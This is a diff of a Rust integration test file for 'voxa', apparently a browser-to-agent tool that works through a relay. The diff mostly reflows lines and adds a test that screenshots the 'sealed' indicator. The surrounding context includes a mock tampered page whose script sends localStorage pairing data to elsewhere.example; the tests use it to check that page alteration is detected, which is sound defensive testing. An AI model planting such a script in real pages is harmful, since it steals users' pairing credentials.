@@ -12,7 +12,7 @@ use tokio_tungstenite::tungstenite::Message;
 use voxa::agent::LinkEvent;
 use voxa::protocol::ErrorCode;
 
-use crate::browser::Browser;
+use crate::browser::{Browser, Scheme};
 use crate::harness::*;
 use crate::sealed::{audit_lines, flip_one_bit, Mitm, Way};
 
@@ -137,7 +137,9 @@ async fn the_page_seals_its_session_with_the_real_agent_through_the_real_relay_a
     std::fs::write(agent.workspace.path().join("private.txt"), secret).unwrap();
     browser.type_into("Command", "cat private.txt; echo; echo typed-on-the-phone-8c2f").await;
     browser.press("Run").await;
-    browser.wait_text(TERMINAL, "the command's output", |t| t.contains(secret) && t.contains("typed-on-the-phone-8c2f\n")).await;
+    browser
+        .wait_text(TERMINAL, "the command's output", |t| t.contains(secret) && t.contains("typed-on-the-phone-8c2f\n"))
+        .await;
     let ran = audit_lines(&agent);
     assert!(ran.iter().any(|line| line["tool"] == "run_command" && line["outcome"] == "ok"), "{ran:?}");
 
@@ -255,7 +257,8 @@ async fn altering_front(relay: std::net::SocketAddr, altered: &'static str) -> s
                 }
                 if head.starts_with(format!("GET {altered} ").as_bytes()) {
                     let body = "fetch('https://elsewhere.example/?' + localStorage.getItem('voxa.pairings'));";
-                    let answer = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
+                    let answer =
+                        format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
                     let _ = tcp.write_all(answer.as_bytes()).await;
                     return;
                 }
@@ -284,4 +287,27 @@ async fn the_agent_compares_the_page_the_relay_serves_with_its_own() {
     let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
     let url = voxa::config::RelayUrl::parse(&format!("http://{closed}")).unwrap();
     assert!(matches!(check(&url, &dial).await, PageCheck::Unchecked { .. }));
+}
+
+/// Pictures of the sealed mark in both schemes (`VOXA_DOCS_SCREENSHOTS=1` writes them to docs/).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn pictures_of_the_sealed_mark_light_and_dark() {
+    let scratch = tempfile::tempdir().unwrap();
+    let out = match std::env::var_os("VOXA_DOCS_SCREENSHOTS") {
+        Some(_) => std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("docs"),
+        None => scratch.path().to_owned(),
+    };
+    let relay = TestRelay::start().await;
+    let agent = TestAgent::start(Some(relay.url())).await;
+    for (scheme, name) in [(Scheme::Light, "web-sealed.png"), (Scheme::Dark, "web-sealed-dark.png")] {
+        let Some(browser) = Browser::start_with(scheme).await else { return };
+        browser.open(&format!("http://{}/#code={}&token={}", relay.addr, agent.code(), agent.token())).await;
+        browser.wait_connection("online").await;
+        browser.type_into("Command", "echo this session is sealed end to end").await;
+        browser.press("Run").await;
+        browser.wait_script("the command's end", "return !document.getElementById('run').disabled;").await;
+        assert_eq!(seal_mark(&browser).await, "sealed");
+        crate::web::save_picture(&browser, &out, name).await;
+        browser.close().await;
+    }
 }
